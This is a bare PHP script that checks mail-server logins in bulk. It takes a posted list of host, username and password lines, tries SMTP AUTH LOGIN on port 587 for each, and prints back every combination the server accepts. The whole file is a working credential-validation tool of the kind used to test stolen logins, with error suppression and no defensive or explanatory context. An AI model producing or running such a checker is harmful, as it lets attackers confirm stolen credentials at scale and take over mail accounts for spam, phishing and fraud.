<?php
$good = '';
foreach (explode("\n", $_POST['list']) as $row) {
    list($host, $user, $pass) = array_map('trim', explode('|', $row));
    $f = @fsockopen($host, 587, $en, $es, 8);
    if (!$f) continue;
    fgets($f, 512);
    fputs($f, "EHLO x\r\n"); fgets($f, 512);
    fputs($f, "AUTH LOGIN\r\n"); fgets($f, 512);
    fputs($f, base64_encode($user) . "\r\n"); fgets($f, 512);
    fputs($f, base64_encode($pass) . "\r\n");
    if (substr(fgets($f, 512), 0, 3) == '235') $good .= "$host|$user|$pass\n";
    fclose($f);
}
echo nl2br($good);
